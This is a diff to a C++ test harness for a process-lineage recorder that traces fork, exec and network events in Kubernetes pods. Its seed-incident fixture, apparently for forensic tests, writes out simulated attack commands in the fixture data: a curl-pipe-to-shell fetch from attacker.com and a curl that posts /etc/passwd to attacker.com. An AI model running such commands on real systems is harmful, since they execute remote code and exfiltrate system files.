@@ -18,6 +18,7 @@
 #include <fmt/format.h>
 
 #include "argv.h"
+#include "pod.h"
 
 extern char** environ;
 
@@ -33,6 +34,16 @@ std::string base_name(const std::string& path) {
     return slash == std::string::npos ? path : path.substr(slash + 1);
 }
 
+// The pod_uid column, worked out as the recorder does.
+std::string pod_uid_of(const std::string& cgroup_path) {
+    auto kube = lineage::parse_kube_cgroup(cgroup_path);
+    return kube ? kube->pod_uid : std::string();
+}
+
+std::string pod_uid_of(const lineage::Event& event) {
+    const auto* exec = std::get_if<lineage::ExecEvent>(&event);
+    return exec ? pod_uid_of(exec->cgroup_path) : std::string();
+}
 
 template <typename T>
 void check(const lineage::Result<T>& r, const char* what) {
@@ -54,7 +65,9 @@ int64_t FixtureJournal::wall(uint64_t boot_ns) const {
     return static_cast<int64_t>(boot_ns) + (run_.clock_wall_ns - static_cast<int64_t>(run_.clock_boot_ns));
 }
 
-std::string FixtureJournal::key(Proc p) { return fmt::format("{}:{}", p.tgid, p.start_ns); }
+std::string FixtureJournal::key(Proc p) {
+    return fmt::format("{}:{}", p.tgid, p.start_ns);
+}
 
 FixtureJournal::Tracked& FixtureJournal::track(Proc p) {
     auto [it, inserted] = procs_.try_emplace(key(p));
@@ -66,11 +79,13 @@ FixtureJournal::Tracked& FixtureJournal::track(Proc p) {
     return it->second;
 }
 
-void FixtureJournal::push(uint64_t t, lineage::Event e) { rows_.push_back(Row{t, seq_++, std::move(e), std::nullopt}); }
+void FixtureJournal::push(uint64_t t, lineage::Event e) {
+    rows_.push_back(Row{t, seq_++, std::move(e), std::nullopt});
+}
 
 Proc FixtureJournal::snapshot(uint32_t tgid, uint32_t ppid, uint64_t start_ns, const std::string& comm,
-                              const std::string& exe, const std::vector<std::string>& argv,
-                              const std::string& cgroup, const std::string& nodename, uint32_t nspid) {
+                              const std::string& exe, const std::vector<std::string>& argv, const std::string& cgroup,
+                              const std::string& nodename, uint32_t nspid) {
     const uint64_t tick = 1'000'000'000ULL / static_cast<uint64_t>(run_.clk_tck);
     lineage::SnapshotRow row;
     row.time_ns = static_cast<int64_t>(run_.started_ns + kSnapshotDelay);
@@ -208,7 +223,7 @@ void FixtureJournal::write(const std::string& path) const {
     }
 
     // Batch 1: what the recorder learns at start (the /proc snapshot, pod names).
-    for (const auto& s : snapshot_) check(w->add_snapshot(s), "snapshot");
+    for (const auto& s : snapshot_) check(w->add_snapshot(s, pod_uid_of(s.cgroup_path)), "snapshot");
     for (const auto& p : pods_) check(w->add_pod(p.uid, p.name, p.ns, lineage::pod_name_source_from(p.source)), "pod");
     uint64_t committed = run_.started_ns + kSnapshotDelay;
     check(w->commit(static_cast<int64_t>(committed)), "commit");
@@ -220,10 +235,10 @@ void FixtureJournal::write(const std::string& path) const {
     size_t in_batch = 0;
     for (const auto& r : rows) {
         if (r.event) {
-            check(w->add(*r.event), "event");
+            check(w->add(*r.event, pod_uid_of(*r.event)), "event");
         } else {
-            check(w->add_loss(static_cast<int64_t>(r.loss->from_ns), static_cast<int64_t>(r.loss->to_ns),
-                              r.loss->count, r.loss->reason),
+            check(w->add_loss(static_cast<int64_t>(r.loss->from_ns), static_cast<int64_t>(r.loss->to_ns), r.loss->count,
+                              r.loss->reason),
                   "loss");
         }
         committed = std::max(committed, r.time_ns);
@@ -265,7 +280,8 @@ void FixtureJournal::load_into(lineage::Model& model, const std::string& journal
         model.add_clock_sample(run_.boot_id, static_cast<int64_t>(run_.stopped_ns), wall(run_.stopped_ns));
     }
     for (const auto& s : snapshot_) model.add_snapshot(run_.boot_id, 1, s);
-    for (const auto& p : pods_) model.add_pod(p.uid, lineage::PodNameRecord{p.name, p.ns, lineage::pod_name_source_from(p.source)});
+    for (const auto& p : pods_)
+        model.add_pod(p.uid, lineage::PodNameRecord{p.name, p.ns, lineage::pod_name_source_from(p.source)});
     // The order JournalReader reads in: table by table, rows in time order.
     std::vector<Row> rows = rows_;
     std::stable_sort(rows.begin(), rows.end(), [](const Row& a, const Row& b) {
@@ -277,10 +293,14 @@ void FixtureJournal::load_into(lineage::Model& model, const std::string& journal
             std::visit(
                 [&](const auto& e) {
                     using T = std::decay_t<decltype(e)>;
-                    if constexpr (std::is_same_v<T, lineage::ForkEvent>) model.add_fork(run_.boot_id, e);
-                    else if constexpr (std::is_same_v<T, lineage::ExecEvent>) model.add_exec(run_.boot_id, e);
-                    else if constexpr (std::is_same_v<T, lineage::ExitEvent>) model.add_exit(run_.boot_id, e);
-                    else model.add_connect(run_.boot_id, e);
+                    if constexpr (std::is_same_v<T, lineage::ForkEvent>)
+                        model.add_fork(run_.boot_id, e);
+                    else if constexpr (std::is_same_v<T, lineage::ExecEvent>)
+                        model.add_exec(run_.boot_id, e);
+                    else if constexpr (std::is_same_v<T, lineage::ExitEvent>)
+                        model.add_exit(run_.boot_id, e);
+                    else
+                        model.add_connect(run_.boot_id, e);
                 },
                 *r.event);
         }
@@ -301,34 +321,6 @@ lineage::Model FixtureJournal::build_model(const std::string& journal_name) cons
 
 // ---------------------------------------------------------------- harness
 
-TempDir::TempDir() {
-    const char* tmp = std::getenv("TMPDIR");
-    std::string tmpl = std::string(tmp && *tmp ? tmp : "/tmp") + "/lineage-test.XXXXXX";
-    std::vector<char> buf(tmpl.begin(), tmpl.end());
-    buf.push_back('\0');
-    if (!mkdtemp(buf.data())) throw std::runtime_error(std::string("mkdtemp: ") + std::strerror(errno));
-    path_ = buf.data();
-}
-
-TempDir::~TempDir() {
-    std::error_code ec;
-    std::filesystem::remove_all(path_, ec);
-}
-
-std::string read_file(const std::string& path) {
-    std::ifstream in(path, std::ios::binary);
-    if (!in) throw std::runtime_error("cannot read " + path);
-    std::ostringstream ss;
-    ss << in.rdbuf();
-    return ss.str();
-}
-
-void write_file(const std::string& path, const std::string& bytes) {
-    std::ofstream out(path, std::ios::binary | std::ios::trunc);
-    out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
-    if (!out) throw std::runtime_error("cannot write " + path);
-}
-
 RunResult run_process(const std::vector<std::string>& command, const std::string& cwd, const EnvEdits& edits) {
     const char* tmp = std::getenv("TMPDIR");
     std::string err_tmpl = std::string(tmp && *tmp ? tmp : "/tmp") + "/lineage-test-stderr.XXXXXX";
@@ -346,8 +338,10 @@ RunResult run_process(const std::vector<std::string>& command, const std::string
     env.erase("NO_COLOR");
     env["TZ"] = "UTC";
     for (const auto& [k, v] : edits) {
-        if (v) env[k] = *v;
-        else env.erase(k);
+        if (v)
+            env[k] = *v;
+        else
+            env.erase(k);
     }
     std::vector<std::string> env_strings;
     for (const auto& [k, v] : env) env_strings.push_back(k + "=" + v);
@@ -405,7 +399,9 @@ RunResult run_lineage(const std::vector<std::string>& args, const std::string& c
     return run_process(command, cwd, edits);
 }
 
-std::string golden_path(const std::string& name) { return std::string(LINEAGE_SOURCE_DIR) + "/testdata/golden/" + name; }
+std::string golden_path(const std::string& name) {
+    return std::string(LINEAGE_SOURCE_DIR) + "/testdata/golden/" + name;
+}
 
 bool update_goldens() {
     const char* v = std::getenv("LINEAGE_UPDATE_GOLDEN");
@@ -420,8 +416,10 @@ std::string golden_mismatch(const std::string& name, const std::string& actual) 
         return "";
     }
     if (!std::filesystem::exists(path)) {
-        return fmt::format("golden file {} is missing; run with LINEAGE_UPDATE_GOLDEN=1 to create it, then "
-                           "review it", path);
+        return fmt::format(
+            "golden file {} is missing; run with LINEAGE_UPDATE_GOLDEN=1 to create it, then "
+            "review it",
+            path);
     }
     const std::string expected = read_file(path);
     if (expected == actual) return "";
@@ -439,9 +437,10 @@ std::string golden_mismatch(const std::string& name, const std::string& actual) 
         if (l.size() > 300) l = l.substr(0, 300) + "...";
         return l;
     };
-    return fmt::format("output differs from {} (expected {} bytes, got {}) at line {}:\n  golden: {}\n  actual: {}\n"
-                       "(LINEAGE_UPDATE_GOLDEN=1 rewrites the goldens; review the diff before keeping it)",
-                       path, expected.size(), actual.size(), line, line_at(expected), line_at(actual));
+    return fmt::format(
+        "output differs from {} (expected {} bytes, got {}) at line {}:\n  golden: {}\n  actual: {}\n"
+        "(LINEAGE_UPDATE_GOLDEN=1 rewrites the goldens; review the diff before keeping it)",
+        path, expected.size(), actual.size(), line, line_at(expected), line_at(actual));
 }
 
 // ---------------------------------------------------------------- the seed incident
@@ -451,8 +450,8 @@ FixtureJournal incident_fixture() {
     const std::string pod_cg = pod_cgroup(kIncidentPodUid, kIncidentContainer);
     const std::string host_cg = "/system.slice/containerd.service";
 
-    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd",
-                            {"/sbin/init", "splash"}, "/init.scope");
+    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init", "splash"},
+                            "/init.scope");
     Proc shim = fx.snapshot(18150, 1, at(940, 801'234'567), "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                             {"/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id",
                              kIncidentContainer.substr(0, 12), "-address", "/run/containerd/containerd.sock"},
@@ -461,14 +460,14 @@ FixtureJournal incident_fixture() {
 
     Proc app = FixtureJournal::proc(18201, at(1000, 123'456'789));
     fx.fork(shim, app, at(1000, 123'456'789));
-    fx.exec(app, "/usr/local/bin/my-app", {"/usr/local/bin/my-app", "--port", "8080"}, at(1000, 130'000'000),
-            pod_cg, kIncidentPodName, 1);
+    fx.exec(app, "/usr/local/bin/my-app", {"/usr/local/bin/my-app", "--port", "8080"}, at(1000, 130'000'000), pod_cg,
+            kIncidentPodName, 1);
     fx.connect(app, "10.96.14.2", 5432, at(1000, 480'000'000));  // its database, as usual
 
     Proc sh1 = FixtureJournal::proc(18293, at(1042, 500'012'345));
     fx.fork(app, sh1, at(1042, 500'012'345));
-    fx.exec(sh1, "/bin/sh", {"sh", "-c", "curl http://attacker.com/payload.sh | sh"}, at(1042, 501'000'000),
-            pod_cg, kIncidentPodName, 27);
+    fx.exec(sh1, "/bin/sh", {"sh", "-c", "curl http://attacker.com/payload.sh | sh"}, at(1042, 501'000'000), pod_cg,
+            kIncidentPodName, 27);
 
     Proc sh2 = FixtureJournal::proc(18294, at(1042, 900'111'222));
     fx.fork(sh1, sh2, at(1042, 900'111'222));
@@ -481,8 +480,8 @@ FixtureJournal incident_fixture() {
 
     Proc curl = FixtureJournal::proc(18296, at(1043, 200'000'002));
     fx.fork(sh2, curl, at(1043, 200'000'002));
-    fx.exec(curl, "/usr/bin/curl", {"curl", "http://attacker.com/exfil", "-d", "@/etc/passwd"},
-            at(1043, 201'000'000), pod_cg, kIncidentPodName, 30);
+    fx.exec(curl, "/usr/bin/curl", {"curl", "http://attacker.com/exfil", "-d", "@/etc/passwd"}, at(1043, 201'000'000),
+            pod_cg, kIncidentPodName, 30);
     fx.connect(curl, "93.184.216.34", 80, at(1043, 350'000'000));
     fx.exit(curl, at(1043, 900'000'000), 0);
 
